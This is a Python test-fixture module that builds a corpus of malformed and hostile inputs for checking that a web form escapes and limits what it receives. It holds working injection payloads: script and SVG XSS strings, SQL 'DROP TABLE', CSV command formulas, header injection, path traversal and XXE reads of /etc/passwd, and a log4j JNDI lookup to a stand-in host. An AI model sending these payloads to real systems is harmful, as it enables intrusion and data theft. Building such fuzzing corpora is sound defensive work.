"""What strangers, broken keyboards and attackers send into a field. Harmless words around hostile signs.

Every entry carries `MARK`, so that a test can look for it where nothing of it may ever stand.
"""

from __future__ import annotations

import re
import unicodedata
from dataclasses import dataclass
from urllib.parse import quote_plus

MARK = "qzharbour7"
TAG = "qzelement7"  # an element that exists only if something was shown without escaping


@dataclass(frozen=True)
class Hostile:
    """One thing to send: its name, and its bytes before they are percent-encoded."""

    name: str
    raw: bytes

    @property
    def text(self) -> str:
        """What a strict reader of UTF-8 makes of it."""
        return self.raw.decode("utf-8", "replace")

    @property
    def encoded(self) -> str:
        """The bytes as a form sends them."""
        return quote_plus(self.raw)


def _marked(name: str, payload: str | bytes) -> Hostile:
    raw = payload if isinstance(payload, bytes) else payload.encode("utf-8", "surrogatepass")
    return Hostile(name, raw + b" " + MARK.encode())


def _of(name: str, unit: str, characters: int) -> Hostile:
    text = (MARK + unit) * (characters // len(MARK + unit) + 1)
    return Hostile(name, text[:characters].encode())


CORPUS: tuple[Hostile, ...] = (
    # -- bytes that are no text ---------------------------------------------------------------------------
    _marked("utf8_never", b"harbour \xff\xfe\xc0\xc1\xf5 dusk"),
    _marked("utf8_cut_short", b"harbour \xe2\x82"),
    _marked("utf8_overlong_slash", b"..\xc0\xaf..\xe0\x80\xaf"),
    _marked("utf8_overlong_nul", b"dusk\xc0\x80dusk"),
    _marked("utf8_beyond_unicode", b"dusk \xf4\x90\x80\x80"),
    _marked("surrogate_alone", b"dusk \xed\xa0\x80 dusk"),
    _marked("surrogate_pair_as_utf8", b"dusk \xed\xa0\xbd\xed\xb8\x80"),
    _marked("continuation_bytes", b"\x80\x81\x82 dusk"),
    _marked("windows_1252", "it\u2019s \u201cdusk\u201d \u2013 20 \u20ac caf\u00e9".encode("cp1252")),
    _marked("euc_kr", "\ud56d\uad6c \ub178\uc744".encode("euc-kr")),
    _marked("utf16", "dusk".encode("utf-16")),
    _marked("bom", b"\xef\xbb\xbfdusk"),
    # -- control and direction ----------------------------------------------------------------------------
    _marked("nul", "dusk\x00dusk\x00"),
    _marked("controls", "".join(map(chr, range(1, 32))) + "\x7f dusk"),
    _marked("controls_c1", "".join(map(chr, range(128, 160))) + " dusk"),
    _marked("escape_sequences", "\x1b[2J\x1b]0;dusk\x07\x1b[31m"),
    _marked("line_ends", "one\r\ntwo\rthree\x0bfour\x85five\u2028six\u2029seven"),
    _marked("direction_override", "\u202egnp.ksud\u202c \u2066dusk\u2069 \u200f\u061c"),
    _marked("zero_width", "d\u200bu\u200cs\u200dk\u2060\ufeff\u00ad"),
    _marked("tag_characters", "dusk" + "".join(chr(0xE0000 + ord(c)) for c in "hidden")),
    _marked("noncharacters", "dusk \ufffe\uffff\U0001fffe\U0010ffff"),
    _marked("private_use", "dusk \ue000\uf8ff\U000f0000"),
    # -- letters that stack, join or turn -----------------------------------------------------------------
    _marked("combining_tower", "d" + "\u0301\u0316\u0489" * 400 + "usk"),
    _marked("combining_alone", "\u0301" * 200),
    _marked("emoji_family", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3fd" * 40),
    _marked("emoji_flags", "\U0001f1f0\U0001f1f7" * 60 + "\U0001f1ee"),
    _marked("korean_jamo", "\u1112\u1161\u11bc\u1100\u116e " + "\u1100" * 300 + "\u115f\u1160\u3164"),
    _marked("korean_nfd", unicodedata.normalize("NFD", "\ud56d\uad6c\uc758 \ub178\uc744")),
    _marked("ligature_long", "\ufdfd" * 150),
    _marked("turkish_and_sharp", "\u0130I\u0131i \u00df\u1e9e \ufb03"),
    _marked("mathematical", "\U0001d525\U0001d51e\U0001d52f\U0001d51f\U0001d52c\U0001d532\U0001d52f"),
    # -- what other programs would run ---------------------------------------------------------------------
    _marked("script", f"<script>alert(1)</script><{TAG}>"),
    _marked("image_error", f"\"'><img src=x onerror=alert(1)><{TAG} onfocus=alert(1) autofocus>"),
    _marked("closes_textarea", f"</textarea></title></style></script><script>alert(1)</script><{TAG}>"),
    _marked("closes_attribute", f"\" onmouseover=\"alert(1)\" x='` {TAG}=\"1"),
    _marked("comment_and_cdata", f"--><!-- ]]><![CDATA[<{TAG}>]]>"),
    _marked("svg", f'<svg/onload=alert(1)><{TAG}/><math><mi//xlink:href="data:x,<script>alert(1)</script>">'),
    _marked("entities", "&lt;script&gt; &#60;script&#62; &#x0; &#xD800; &amp;amp; &notanentity;"),
    _marked("meta_refresh", f'<meta http-equiv=refresh content="0;url=//harbour.example"><base href=//x><{TAG}>'),
    _marked("javascript_link", "javascript:alert(1) data:text/html,<b>dusk vbscript:x"),
    _marked("template", "{{ 7|add:'70' }}{% csrf_token %}{# dusk #}${7*11}#{7*11}<%= 7*11 %>{{7*11}}"),
    _marked("percent_signs", "%s %d %(number)s %n {0} {dusk.__class__} $HOME `id` $(id)"),
    _marked("sql", "'; DROP TABLE cases_case; -- ' OR 1=1 /* \" UNION SELECT sealed FROM hotline_report"),
    _marked("csv_formula", "=cmd|'/c calc'!A0"),
    _marked("csv_formula_at", "@SUM(1+1)*cmd\t+1\t-1"),
    _marked("header_injection", "dusk\r\nSet-Cookie: qzcookie7=1\r\nX-Dusk: 1\r\n\r\n<html>"),
    _marked("mail_header_injection", "dusk\r\nBcc: all@harbour.example\r\n.\r\nQUIT"),
    _marked("path_traversal", "../../../../etc/passwd\x00.png ..\\..\\windows\\win.ini file:///etc/passwd"),
    _marked("xml_entity", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    _marked("log4j", '${jndi:ldap://harbour.example/a} %0a%0d{"event":"forged"}'),
    _marked("json", '{"__proto__": {"dusk": 1}, "a": [[[[[[]]]]]]}'),
    # -- size ----------------------------------------------------------------------------------------------
    _of("word_of_19_kb", "dusk", 19_000),
    _of("line_of_links", " https://harbour.test/dusk ", 18_000),
    _of("lines_without_end", "\n", 19_500),
    _of("text_of_64_kb", " dusk", 65_536),
    _of("wide_text_of_64_kb", " \ud56d", 30_000),
    _of("text_of_900_kb", " dusk", 900_000),
    _of("text_of_1_mb", " dusk", 1_048_576),
)  # fmt: skip
BODY_LIMIT = 1_000_000  # bytes of a whole form, percent signs included; beyond it nothing of it is read


def beyond_reading(entry: Hostile) -> bool:
    """Whether a form with this in it is refused before it is read."""
    return len(entry.encoded) > BODY_LIMIT - 2_000


def letters(text: str) -> str:
    """What is left of a text that a person can read: without controls, spaces and signs for the unreadable.

    How text is broken into lines and what stands for a byte that is no text may differ between what was sent
    and what a page shows; everything else may not.
    """
    readable = "".join(one for one in text if unicodedata.category(one) not in {"Cc", "Cs"})
    return re.sub(r"[\s\ufffd]+", "", readable)
